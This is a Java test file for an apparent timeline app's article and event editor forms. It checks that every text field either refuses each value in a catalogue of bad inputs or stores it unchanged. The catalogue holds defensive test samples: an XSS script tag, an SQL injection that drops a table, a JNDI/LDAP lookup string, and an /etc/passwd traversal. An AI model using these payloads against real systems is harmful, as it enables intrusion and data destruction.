package org.brtimeline.editing.ui;

import static com.github.mvysny.kaributesting.v10.LocatorJ._get;
import static org.assertj.core.api.Assertions.assertThat;

import com.vaadin.flow.component.UI;
import java.time.LocalDate;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.assertj.core.api.SoftAssertions;
import org.brtimeline.BrowserlessUi;
import org.brtimeline.WritingTest;
import org.brtimeline.base.DatePrecision;
import org.brtimeline.chronology.Category;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * The editors' two forms given each kind of bad value in each text field: the value is either refused with a message
 * next to its field and nothing is stored, or stored exactly as typed (markup and injection strings are text like any
 * other); never an error, never a value cut short or changed. The readers' addresses and the API have their own
 * catalogue ({@code BadInputCatalogueTest}).
 */
@WritingTest
class FormBadInputCatalogueTest {

    static final Map<String, String> BAD_VALUES = new LinkedHashMap<>();

    static {
        BAD_VALUES.put("blank", "   ");
        BAD_VALUES.put("a megabyte", "a".repeat(1_000_001));
        BAD_VALUES.put("a NUL character", "Minsk\u0000talks");
        BAD_VALUES.put("an escape sequence", "Minsk \u001b[31mtalks");
        BAD_VALUES.put("a C1 control character", "Minsk\u0085talks");
        BAD_VALUES.put("a broken character", "Minsk \uD83D talks");
        BAD_VALUES.put("markup", "<script>alert(1)</script><b>bold</b>");
        BAD_VALUES.put("SQL injection", "'); drop table event; --");
        BAD_VALUES.put("an expression", "${jndi:ldap://example.org/a} #{7*7}");
        BAD_VALUES.put("path traversal", "../../../etc/passwd");
        BAD_VALUES.put("right-to-left override", "Minsk \u202Ealert\u202C talks");
    }

    @Autowired
    ApplicationContext context;

    @Autowired
    JdbcTemplate jdbc;

    @BeforeEach
    void logIn() {
        BrowserlessUi.openAs(context, "bob", "EDITOR");
    }

    @AfterEach
    void tearDown() {
        BrowserlessUi.close();
    }

    @Test
    void every_text_field_of_the_article_form_refuses_with_a_message_or_stores_exactly_what_was_typed() {
        var softly = new SoftAssertions();
        List<String> fields = List.of("title", "publisher", "url", "language", "publishedNote", "text");
        int n = 0;
        for (String field : fields) {
            for (var bad : BAD_VALUES.entrySet()) {
                n++;
                long articlesBefore = count("article");
                // A fresh form each time: navigating to the page already open would keep the last case's values.
                UI.getCurrent().navigate("editor/deleted");
                UI.getCurrent().navigate("editor/articles/new");
                ArticleImportView view = _get(ArticleImportView.class);
                view.title.setValue("An article " + field + " " + n);
                view.publisher.setValue("Test Wire");
                view.published.setValue(LocalDate.of(2021, 9, 9));
                view.text.setValue("MINSK -- Talks number " + n + " took place on Thursday.");
                var target = articleField(view, field);
                target.setValue(bad.getValue());

                view.save.click();

                String what = field + " with " + bad.getKey();
                boolean refused = count("article") == articlesBefore;
                if (refused) {
                    softly.assertThat(target.isInvalid())
                            .as(what + ": marked; the form says "
                                    + java.util.stream.Stream.of(
                                                    view.title,
                                                    view.publisher,
                                                    view.url,
                                                    view.language,
                                                    view.publishedNote,
                                                    view.text)
                                            .filter(f -> f.isInvalid())
                                            .map(f -> f.getLabel() + ": " + f.getErrorMessage())
                                            .toList()
                                    + " " + com.github.mvysny.kaributesting.v10.NotificationsKt.getNotifications())
                            .isTrue();
                    softly.assertThat(target.getErrorMessage())
                            .as(what + ": says why")
                            .isNotBlank()
                            .doesNotContain("Exception");
                } else {
                    softly.assertThat(stored(field))
                            .as(what + ": stored as typed")
                            .isEqualTo(
                                    bad.getValue().isBlank()
                                            ? null
                                            : bad.getValue().strip());
                }
            }
        }
        assertThat(n).isEqualTo(fields.size() * BAD_VALUES.size());
        softly.assertAll();
    }

    private static com.vaadin.flow.component.textfield.TextFieldBase<?, String> articleField(
            ArticleImportView view, String field) {
        return switch (field) {
            case "title" -> view.title;
            case "publisher" -> view.publisher;
            case "url" -> view.url;
            case "language" -> view.language;
            case "publishedNote" -> view.publishedNote;
            default -> view.text;
        };
    }

    private String stored(String field) {
        String column =
                switch (field) {
                    case "publishedNote" -> "a.published_note";
                    case "text" -> "t.text_content";
                    default -> "a." + field;
                };
        return jdbc.queryForObject(
                "select " + column + " from article a join article_text t on t.article_id = a.id"
                        + " where a.id = (select max(id) from article)",
                String.class);
    }

    @Test
    void every_text_field_of_the_event_form_refuses_with_a_message_or_stores_exactly_what_was_typed() {
        var softly = new SoftAssertions();
        List<String> fields = List.of("title", "summary", "places", "wording", "dateNote");
        int n = 0;
        for (String field : fields) {
            for (var bad : BAD_VALUES.entrySet()) {
                n++;
                long eventsBefore = count("event");
                UI.getCurrent().navigate("editor/deleted");
                UI.getCurrent().navigate("editor/events/new");
                EventEditorView view = _get(EventEditorView.class);
                view.form.title.setValue("An event " + n);
                view.form.category.setValue(Category.DIPLOMACY);
                view.form.start.setValue(LocalDate.of(2021, 9, 9));
                view.form.precision.setValue(DatePrecision.DAY);
                var target = eventField(view.form, field);
                target.setValue(bad.getValue());

                view.form.save.click();

                String what = field + " with " + bad.getKey();
                boolean refused = count("event") == eventsBefore;
                if (refused) {
                    softly.assertThat(target.isInvalid()).as(what + ": marked").isTrue();
                    softly.assertThat(target.getErrorMessage())
                            .as(what + ": says why")
                            .isNotBlank()
                            .doesNotContain("Exception");
                } else {
                    softly.assertThat(storedEvent(field))
                            .as(what + ": stored as typed")
                            .isEqualTo(
                                    field.equals("places")
                                            ? placesOf(bad.getValue())
                                            : java.util.Collections.singletonList(
                                                    bad.getValue().isBlank()
                                                            ? null
                                                            : bad.getValue().strip()));
                }
            }
        }
        assertThat(n).isEqualTo(fields.size() * BAD_VALUES.size());
        softly.assertAll();
    }

    private static com.vaadin.flow.component.textfield.TextFieldBase<?, String> eventField(
            EventForm form, String field) {
        return switch (field) {
            case "title" -> form.title;
            case "summary" -> form.summary;
            case "places" -> form.places;
            case "wording" -> form.wording;
            default -> form.dateNote;
        };
    }

    /** The places field holds several, separated by commas or semicolons. */
    private static List<String> placesOf(String typed) {
        return java.util.Arrays.stream(typed.split("[,;]"))
                .map(String::strip)
                .filter(p -> !p.isEmpty())
                .distinct()
                .toList();
    }

    private List<String> storedEvent(String field) {
        String last = "(select max(id) from event)";
        if (field.equals("places")) {
            return jdbc.queryForList(
                    "select place from event_place where event_id = " + last + " order by place_index", String.class);
        }
        String column =
                switch (field) {
                    case "wording" -> "date_wording";
                    case "dateNote" -> "date_note";
                    default -> field;
                };
        return jdbc.queryForList("select " + column + " from event where id = " + last, String.class);
    }

    private long count(String table) {
        return jdbc.queryForObject("select count(*) from " + table, Long.class);
    }
}
